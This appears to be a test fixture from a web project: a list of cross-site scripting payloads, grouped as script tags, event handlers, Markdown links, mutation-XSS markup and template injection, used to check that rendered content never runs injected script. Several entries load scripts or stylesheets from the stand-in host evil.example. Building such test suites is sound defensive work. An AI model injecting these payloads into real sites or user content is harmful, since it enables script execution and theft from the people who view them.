// Texts that have made other programs run what a reader wrote: by tags, by handlers, by addresses, by broken or
// nested markup, by mutation, by Markdown, by templates. Each of them would open a dialog, which no test expects.

const tags = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/x>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  `'"--></style></script><script>alert(1)</script>`,
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"; * { background: url(//evil.example/y) }</style>',
  '<form action="javascript:alert(1)"><button>Go</button></form>',
  '<template><img src=x onerror=alert(1)></template>',
  '<parvis-board site="x" onclick="alert(1)"></parvis-board>',
]

const handlers = [
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)" ',
  '<img src=`x`onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">Text</text></a></svg>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p style="animation-name:x" onanimationstart=alert(1)>x</p>',
  '<a href=x onmouseover=alert(1) style="position:fixed;inset:0">x</a>',
  '" autofocus onfocus=alert(1) x="',
  `' onclick=alert(1) x='`,
]

const addresses = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x](x "onerror=alert(1)")',
  '![x"onerror="alert(1)](x)',
  '[x](https://a.example "x\\" onclick=\\"alert(1)")',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<https://a.example/"onclick="alert(1)>',
  '[x](//evil.example/)',
  '[<img src=x onerror=alert(1)>](https://a.example)',
]

const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<table><td background="javascript:alert(1)"><img src=x onerror=alert(1)></table>',
  '<a id=x><a id=x name=y href="javascript:alert(1)">x</a>',
  '<img name=getElementById><img name=querySelector>',
  '```\n</code></pre><img src=x onerror=alert(1)>\n```',
  '`</code><svg onload=alert(1)>`',
  '| a |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\\<img src=x onerror=alert(1)\\>',
  '%3Cimg%20src=x%20onerror=alert(1)%3E',
  '<mark><img src=x onerror=alert(1)></mark>',
]

const templates = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would fill in
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= alert(1) %>',
  '__proto__',
  '@{alert(1)}',
  '$&$`$1',
]

export const payloads = [...tags, ...handlers, ...addresses, ...mutations, ...templates]
